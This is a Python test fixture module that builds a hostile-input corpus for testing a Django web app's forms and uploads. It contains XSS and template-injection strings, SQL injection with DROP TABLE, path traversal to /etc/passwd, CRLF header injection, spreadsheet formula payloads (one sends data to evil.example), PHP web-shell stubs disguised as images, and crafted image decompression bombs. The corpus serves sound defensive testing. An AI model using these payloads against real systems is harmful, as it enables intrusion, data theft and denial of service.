"""The hostile-input corpus: what an attacker, a broken client or a confused user may send.

Every value here is built in code: no binary blobs are committed. The files
(lying types, image bombs) are made with Pillow when a test asks for them.
`test_hostile_input.py` throws this corpus at every form and API.
"""

import functools
import io
import struct
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

# The one marker whose raw form must never come back in an HTML or XML body.
SCRIPT_MARKER = "<script>alert('hostile')</script>"
# A header that a CR/LF payload tries to inject.
INJECTED_HEADER = "X-Hostile-Injected"

# Payloads whose raw text must never come back unescaped: they only hurt when not escaped.
MARKUP = [
    SCRIPT_MARKER,
    "\"><script>alert('hostile')</script>",
    "'><img src=x onerror=alert('hostile')>",
    '" onmouseover="alert(\'hostile\')" x="',
    "<svg/onload=alert('hostile')>",
    "</textarea><script>alert('hostile')</script>",
]
TEMPLATE = "{{ 7|add:7 }}{% debug %}{{ request.user.password }}"

SQL = "' OR '1'='1 ; 1; DROP TABLE incidents_report; -- \" UNION SELECT password FROM trygg_user -- %' AND 1=1 --"
TRAVERSAL = "../../../../etc/passwd ..\\..\\..\\windows\\win.ini %2e%2e%2f%2e%2e%2fetc%2fpasswd"
CONTROL = "bell\x07 backspace\x08 escape\x1b[31m vertical\x0b formfeed\x0c delete\x7f"
CRLF = f"line\r\n{INJECTED_HEADER}: 1\r\n\r\nbody"
UNICODE = (
    "right-to-left \u202egnp.exe | zero\u200bwidth\u200c\u200d\ufeff | "
    "Z\u0351\u0368\u0308a\u0352\u0357l\u033e\u035fg\u0301o\u0305 | emoji 🚓👮‍♀️🏳️‍🌈🇸🇪 | "
    "full-width ＜script＞ homoglyph раураl | \U0010ffff \ue000 \ufffe"
)
FORMULAS = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
LONG = "x" * 100_000

# What every text field of every form gets, one request per entry (variants of a kind are sent together).
TEXT = [
    SCRIPT_MARKER,
    " ".join(MARKUP[1:4]),
    " ".join(MARKUP[4:]),
    TEMPLATE,
    "javascript:alert('hostile') JaVaScRiPt:alert(document.cookie)// "
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgnaG9zdGlsZScpPC9zY3JpcHQ+",
    SQL,
    TRAVERSAL,
    "before\x00after",
    CONTROL,
    CRLF,
    UNICODE,
    FORMULAS[0],
    LONG,
    "å" * 20_000 + SCRIPT_MARKER,
]

# Lone surrogates cannot be encoded in UTF-8: a browser sends them as the replacement
# character, or as raw invalid bytes, which test_hostile_input sends separately.
INVALID_UTF8 = b"caf\xc3 \xed\xa0\x80 \xff\xfe"

NUMBERS = [
    "NaN",
    "Infinity",
    "-inf",
    "-0",
    "1e309",
    "1e-400",
    "99999999999999999999999999999999",
    "-9223372036854775809",
    "2147483648",
    "1,5",
    "١٢٣",  # Arabic-Indic digits
    "1 OR 1=1",
]

DATES = [
    "0000-00-00",
    "9999-99-99",
    "9999-12-31",
    "0001-01-01",
    "2025-02-30",
    "99999-01-01",
    "2025-13-01T25:61",
    "9999-12-31T23:59",
    "0001-01-01T00:00",
]

URLS = [
    "javascript:alert('hostile')",
    " javascript:alert('hostile')",
    "data:text/html,<script>alert('hostile')</script>",
    "https://example.org/\r\nX-Hostile-Injected: 1",
    "https://exa mple.org/<script>",
    "//evil.example/",
    "https://" + "a" * 5000 + ".example/",
    "file:///etc/passwd",
]

# Values for choices (selects, radios, checkboxes) and ids: out of range, negative, not numbers.
CHOICES = [
    "99999999999999999999",
    "9223372036854775808",
    "-1",
    "NaN",
    "../../etc/passwd",
    "\x00",
    SCRIPT_MARKER,
]


def _image_bytes(fmt, size=(8, 8), **options):
    output = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(output, format=fmt, **options)
    return output.getvalue()


def png_bomb(width=60_000, height=60_000):
    """A small PNG made by Pillow whose header then claims 60,000 × 60,000 pixels (3.6 gigapixels)."""
    data = bytearray(_image_bytes("PNG"))
    # The IHDR chunk follows the 8-byte signature: length, type, width, height, …, CRC.
    data[16:24] = struct.pack(">II", width, height)
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])) & 0xFFFFFFFF)
    return bytes(data)


def jpeg_bomb(width=65_000, height=65_000):
    """A small JPEG made by Pillow whose frame header then claims 65,000 × 65,000 pixels."""
    data = bytearray(_image_bytes("JPEG"))
    frame = data.index(b"\xff\xc0")  # start of frame: marker, length, precision, height, width
    data[frame + 5:frame + 9] = struct.pack(">HH", height, width)
    return bytes(data)


@functools.cache
def hostile_files():
    """(label, name, bytes, declared content type): files that lie about their type, and bombs."""
    return [
        ("HTML named .jpg", "photo.jpg", b"<html><body>" + SCRIPT_MARKER.encode() + b"</body></html>", "image/jpeg"),
        (
            "SVG named .jpg",
            "photo.jpg",
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
            "image/jpeg",
        ),
        ("SVG as image/svg+xml", "drawing.svg", b'<svg xmlns="http://www.w3.org/2000/svg"/>', "image/svg+xml"),
        ("PHP named .jpg", "shell.jpg", b"<?php system($_GET['c']); ?>", "image/jpeg"),
        ("PHP with a GIF header", "shell.gif", b"GIF89a<?php system($_GET['c']); ?>", "image/gif"),
        ("PNG named .pdf", "document.pdf", _image_bytes("PNG"), "application/pdf"),
        ("truncated JPEG", "broken.jpg", _image_bytes("JPEG")[:120], "image/jpeg"),
        ("empty file", "empty.jpg", b"", "image/jpeg"),
        ("traversal in the name", "../../../etc/passwd.jpg", _image_bytes("JPEG"), "image/jpeg"),
        ("NUL in the name", "photo\x00.php.jpg", _image_bytes("JPEG"), "image/jpeg"),
        ("PNG bomb (60,000 × 60,000)", "bomb.png", png_bomb(), "image/png"),
        ("PNG bomb (10,000 × 10,000)", "bomb.png", png_bomb(10_000, 10_000), "image/png"),
        ("JPEG bomb (65,000 × 65,000)", "bomb.jpg", jpeg_bomb(), "image/jpeg"),
    ]


def upload(name, content, content_type):
    return SimpleUploadedFile(name, content, content_type=content_type)
